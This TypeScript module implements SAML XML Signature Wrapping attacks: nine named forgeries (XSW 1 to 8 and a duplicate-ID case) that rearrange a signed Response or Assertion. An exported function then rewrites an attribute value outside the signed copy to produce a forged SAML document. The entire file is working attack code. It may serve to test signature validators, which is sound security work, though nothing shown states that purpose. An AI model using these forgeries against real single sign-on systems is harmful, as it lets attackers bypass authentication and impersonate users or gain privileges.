import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

type Forge = (response: Element, assertion: Element) => void;

const signatureOf = (element: Element): Element | undefined =>
  Array.from(element.childNodes).find((node): node is Element => (node as Element).localName === 'Signature');

const copyOf = (element: Element) => element.cloneNode(true) as Element;

function withoutSignature(element: Element): Element {
  const copy = copyOf(element);
  const signature = signatureOf(copy);
  if (signature) copy.removeChild(signature);
  return copy;
}

const rename = (element: Element) => element.setAttribute('ID', '_forged');

/**
 * Published as XSW 1 to 8, and one with a repeated id. Each makes a careless reader use another
 * element than the signed one.
 */
const forges: Record<string, Forge> = {
  'the signed response inside its signature': (response) => {
    const original = withoutSignature(response);
    rename(response);
    signatureOf(response)?.appendChild(original);
  },
  'the signed response before its signature': (response) => {
    const original = withoutSignature(response);
    rename(response);
    response.insertBefore(original, signatureOf(response) ?? null);
  },
  'a forged assertion before the signed one': (response, assertion) => {
    const forged = withoutSignature(assertion);
    rename(forged);
    response.insertBefore(forged, assertion);
  },
  'the signed assertion inside a forged one': (response, assertion) => {
    const forged = withoutSignature(assertion);
    rename(forged);
    response.replaceChild(forged, assertion);
    forged.appendChild(assertion);
  },
  'the signed assertion after a forged one with its signature': (response, assertion) => {
    const original = withoutSignature(assertion);
    rename(assertion);
    response.appendChild(original);
  },
  'the signed assertion inside the signature of a forged one': (_response, assertion) => {
    const original = withoutSignature(assertion);
    rename(assertion);
    signatureOf(assertion)?.appendChild(original);
  },
  'a forged assertion in extensions': (response, assertion) => {
    const extensions = response.ownerDocument.createElementNS(response.namespaceURI, 'samlp:Extensions');
    const forged = withoutSignature(assertion);
    extensions.appendChild(forged);
    response.insertBefore(extensions, assertion);
  },
  'the signed assertion in an object of the signature': (_response, assertion) => {
    const signature = signatureOf(assertion);
    if (!signature) return;
    const original = withoutSignature(assertion);
    const object = assertion.ownerDocument.createElementNS(signature.namespaceURI, 'ds:Object');
    object.appendChild(original);
    rename(assertion);
    signature.appendChild(object);
  },
  'two elements of one id': (response, assertion) => {
    const forged = withoutSignature(assertion);
    forged.setAttribute('ID', '_same');
    response.insertBefore(forged, assertion);
  },
};

export const wrappings = Object.keys(forges);

/** Replaces the attribute value `honest` with `evil` outside the signed copy. */
export function wrapSignature(
  xml: string,
  wrapping: string,
  { honest, evil }: { honest: string; evil: string },
): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const assertion = Array.from(response.childNodes).find(
    (node): node is Element => (node as Element).localName === 'Assertion',
  )!;
  const [keptResponse, keptAssertion] = [response, assertion].map((element) => element.getAttribute('ID'));
  forges[wrapping]!(response, assertion);
  const isKept = (element: Element | null): boolean =>
    element !== null &&
    element.nodeType === 1 &&
    ((element !== response && element.getAttribute('ID') === keptResponse) ||
      (element.getAttribute('ID') === keptAssertion && signatureOf(response) === undefined) ||
      isKept(element.parentNode as Element | null));
  for (const value of Array.from(document.getElementsByTagName('saml:AttributeValue')))
    if (value.textContent === honest && !isKept(value)) value.textContent = evil;
  return new XMLSerializer().serializeToString(document).replace('"_same"', `"${keptAssertion}"`);
}
